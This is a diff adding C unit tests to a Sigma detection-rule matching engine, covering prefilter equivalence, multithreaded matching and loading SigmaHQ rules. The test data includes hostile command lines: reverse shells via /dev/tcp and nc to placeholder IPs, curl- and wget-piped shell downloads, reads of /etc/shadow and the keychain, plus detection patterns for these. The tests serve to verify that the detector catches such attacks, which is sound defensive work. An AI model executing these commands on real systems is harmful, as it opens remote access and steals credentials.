@@ -4,11 +4,14 @@
  * and allocation failure during loading (no leak, clean error). */
 #include "testutil.h"
 
+#include <ctype.h>
 #include <jansson.h>
+#include <pthread.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
 #include "sigma.h"
+#include "sigma_int.h"     /* sj_no_prefilter, for the filter equivalence test */
 #include "util.h"
 
 /* ---- a tiny event: field/value pairs ------------------------------------- */
@@ -155,6 +158,7 @@ static void test_wildcards(void **state) {
     assert_int_equal(HITS(rs, "Image=/bin/dash"), 1);
     assert_int_equal(HITS(rs, "Image=/bin/ash"), 0);
     assert_int_equal(HITS(rs, "Image=/bin/bbash"), 0);
+    assert_int_equal(HITS(rs, "Image=/bin/bash\n"), 0);        /* anchored at the very end */
     sigma_rules_free(rs);
 
     /* Overlapping prefix and suffix must not share characters. */
@@ -414,6 +418,20 @@ static void test_rule_prefilter(void **state) {
                   "  condition: a or b\n");
     assert_int_equal(HITS(rs, "Image=/bin/bash", "CommandLine=x something long enough here x"), 1);
     assert_int_equal(HITS(rs, "Image=/bin/nc", "CommandLine=x"), 1);
+    sigma_rules_free(rs);
+    /* Alternatives through '1 of', list selections and |all, on values long
+     * enough for the bigram sets: every way to match must still match. */
+    rs = load_det("  sel_a:\n    - CommandLine|contains: 'alpha-needle'\n    - ParentCommandLine|contains: 'beta-needle'\n"
+                  "  sel_b:\n    CommandLine|contains|all:\n      - 'gamma'\n      - 'delta'\n"
+                  "  sel_c:\n    CommandLine|re: 'epsilon[0-9]+zeta'\n"
+                  "  condition: 1 of sel_*\n");
+    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxx alpha-needle yyyyyyyyyy"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxxxxxxxxxxxxxxxxxxxxx", "ParentCommandLine=zzzzz beta-needle zzzzzzzz"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=xxxxxxx GAMMA xxxxxx Delta xxxxxxxx"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=xxxxxxx gamma xxxxxx xxxxxxxxxxxxxx"), 0);
+    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxxxxxxxxxx epsilon42zeta xxxxxxxx"), 1);
+    assert_int_equal(HITS(rs, "CommandLine=xxxxxxxxxxxxxxxx epsilonzeta xxxxxxxxxx"), 0);
+    assert_int_equal(HITS(rs, "CommandLine=short"), 0);
     sigma_rules_free(rs);
 }
 
@@ -861,6 +879,163 @@ static void test_pack_attacks(void **state) {
     sigma_rules_free(rs);
 }
 
+
+
+/* The filters (item end sets, rule prefilters, regex literals) must never
+ * change an answer: the team pack plus rules exercising every filter kind,
+ * matched with and without them over many command lines (the benign and
+ * attack lines above, and each cut at every tenth position, upper-cased, and
+ * with an Image path), must give the same hits. */
+static void test_filters_equivalent(void **state) {
+    (void)state;
+    static const char *extra =
+        "title: ends\nlogsource:\n  category: process_creation\n"
+        "detection:\n  s:\n    Image|endswith: [/sh, /bash, /nc, /x]\n    CommandLine|startswith: [sh, bash, n]\n"
+        "  condition: s\n---\n"
+        "title: alts\nlogsource:\n  category: process_creation\n"
+        "detection:\n  a:\n    - CommandLine|contains: 'dev/tcp'\n    - CommandLine|re: 'socket.{0,40}connect'\n"
+        "  b:\n    CommandLine|contains|all: [' -e ', '/bin']\n  condition: 1 of them\n";
+    static const char *lines[] = {
+        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "nc -e /bin/sh 10.0.0.1 4242", "ls -l /bin/bash",
+        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"h\",1))'",
+        "curl -s http://198.51.100.2/x.sh | bash", "chmod u+s /bin/bash", "sh -c 'echo hi' 2>&1",
+        "docker run --rm -it --entrypoint /bin/sh alpine:3.19", "security dump-keychain -d login.keychain",
+        "find . -exec /bin/sh \\; -quit", "vim -c ':!/bin/sh'", "echo ZWNobyBoaQ== | base64 -d | sh",
+        "LD_PRELOAD=/tmp/libhook.so /usr/bin/passwd", "cat /etc/shadow", "iptables -F", "n",
+    };
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
+    assert_int_equal(sigma_load_text(rs, "extra.yml", extra, strlen(extra)), 2);
+    const char *sigmahq = getenv("NIGHTJAR_SIGMA_DIR");     /* more rules when there */
+    if (sigmahq && *sigmahq) {
+        char p[1024];
+        snprintf(p, sizeof p, "%s/rules/linux", sigmahq);
+        sigma_load_path(rs, p);
+        snprintf(p, sizeof p, "%s/rules/macos", sigmahq);
+        sigma_load_path(rs, p);
+    }
+    int compared = 0, hits = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(lines); i++) {
+        size_t len = strlen(lines[i]);
+        for (size_t cut = 1; cut <= len + 9; cut += 10) {
+            for (int variant = 0; variant < 3; variant++) {
+                char cmd[512], img[64];
+                snprintf(cmd, sizeof cmd, "%.*s", (int)(cut < len ? cut : len), lines[i]);
+                if (variant == 1)
+                    for (char *q = cmd; *q; q++) *q = (char)toupper((unsigned char)*q);
+                size_t a0 = strcspn(cmd, " ");
+                snprintf(img, sizeof img, variant == 2 ? "/usr/bin/%.*s" : "%.*s", (int)(a0 < 40 ? a0 : 40), cmd);
+                kv e = {{"CommandLine", "Image"}, {cmd, img}, 2};
+                sigma_event_view v = {kv_get, &e, cmd, strlen(cmd), NULL, "process_creation", NULL};
+                sigma_hit h1[32], h2[32];
+                sj_no_prefilter = 0;
+                int k1 = sigma_match(rs, &v, h1, 32);
+                sj_no_prefilter = 1;
+                int k2 = sigma_match(rs, &v, h2, 32);
+                sj_no_prefilter = 0;
+                if (k1 != k2) fail_msg("filters changed the hit count (%d vs %d) for: %s", k1, k2, cmd);
+                for (int j = 0; j < k1 && j < 32; j++)
+                    if (h1[j].rule != h2[j].rule) fail_msg("filters changed hit %d for: %s", j, cmd);
+                compared++;
+                hits += k1;
+            }
+        }
+    }
+    assert_true(compared > 100);
+    assert_true(hits > 20);
+    sigma_rules_free(rs);
+}
+
+
+/* sigma_match from several threads at once on one rule set (regex scratch
+ * is per call): every thread sees the answers of a single-threaded run. */
+typedef struct mt_job {
+    sigma_rules *rs;
+    const char *const *cmds;
+    int n;
+    const int *want;
+    int bad;
+} mt_job;
+
+static void *mt_run(void *p) {
+    mt_job *j = p;
+    for (int round = 0; round < 200; round++)
+        for (int i = 0; i < j->n; i++) {
+            kv e = {{"CommandLine"}, {j->cmds[i]}, 1};
+            sigma_event_view v = {kv_get, &e, j->cmds[i], strlen(j->cmds[i]), NULL, "process_creation", NULL};
+            if (sigma_match(j->rs, &v, NULL, 0) != j->want[i]) j->bad++;
+        }
+    return NULL;
+}
+
+static void test_threads(void **state) {
+    (void)state;
+    static const char *cmds[] = {
+        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "ls -la", "nc -e /bin/sh 10.0.0.1 4242",
+        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "wget -O - http://x/y | sh", "git status",
+    };
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
+    int want[NJ_ARRAY_LEN(cmds)], any = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(cmds); i++) {
+        kv e = {{"CommandLine"}, {cmds[i]}, 1};
+        sigma_event_view v = {kv_get, &e, cmds[i], strlen(cmds[i]), NULL, "process_creation", NULL};
+        want[i] = sigma_match(rs, &v, NULL, 0);
+        any += want[i] > 0;
+    }
+    assert_true(any >= 4);
+    pthread_t t[4];
+    mt_job jobs[4];
+    for (int i = 0; i < 4; i++) {
+        jobs[i] = (mt_job){rs, cmds, (int)NJ_ARRAY_LEN(cmds), want, 0};
+        assert_int_equal(pthread_create(&t[i], NULL, mt_run, &jobs[i]), 0);
+    }
+    for (int i = 0; i < 4; i++) {
+        pthread_join(t[i], NULL);
+        assert_int_equal(jobs[i].bad, 0);
+    }
+    sigma_rules_free(rs);
+}
+
+/* SigmaHQ's own rules, when a checkout is named by NIGHTJAR_SIGMA_DIR (its
+ * root or its rules/ folder; scripts/sigma-rules says how to get one): at
+ * least 95% of the three folders nightjar's sources feed must load, and the
+ * loaded set must match a reverse shell seen by auditd. */
+static void test_sigmahq(void **state) {
+    (void)state;
+    const char *root = getenv("NIGHTJAR_SIGMA_DIR");
+    if (!root || !*root) skip();
+    static const char *folders[] = {"linux/process_creation", "macos/process_creation", "linux/auditd"};
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    int loaded = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(folders); i++) {
+        char p[1024];
+        snprintf(p, sizeof p, "%s/rules/%s", root, folders[i]);
+        struct stat st;
+        if (stat(p, &st)) snprintf(p, sizeof p, "%s/%s", root, folders[i]);
+        int n = sigma_load_path(rs, p);
+        if (n < 0) fail_msg("%s: %s", p, nj_last_error());
+        loaded += n;
+    }
+    int skipped = sigma_skip_count(rs);
+    fprintf(stderr, "SigmaHQ: %d loaded, %d skipped\n", loaded, skipped);
+    assert_true(loaded > 0);
+    assert_true(loaded * 100 >= (loaded + skipped) * 95);
+    kv e;
+    sigma_event_view v = view_of(&e, (const char *const[]){
+        "Image=/usr/bin/bash", "CommandLine=bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+        "type=EXECVE", "a0=bash", "a1=-i", "ParentImage=/usr/sbin/apache2"}, 6);
+    v.service = "auditd";
+    const char *raw = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
+    v.raw = raw;
+    v.raw_len = strlen(raw);
+    assert_true(sigma_match(rs, &v, NULL, 0) >= 1);
+    sigma_rules_free(rs);
+}
+
 /* ---- allocation failure --------------------------------------------------- */
 
 static void test_load_oom(void **state) {
@@ -983,6 +1158,9 @@ int main(void) {
         cmocka_unit_test(test_canonical_event),
         cmocka_unit_test(test_pack_benign),
         cmocka_unit_test(test_pack_attacks),
+        cmocka_unit_test(test_filters_equivalent),
+        cmocka_unit_test(test_threads),
+        cmocka_unit_test(test_sigmahq),
         cmocka_unit_test(test_load_oom),
         cmocka_unit_test(test_dir_oom),
         cmocka_unit_test(test_alias_bomb),
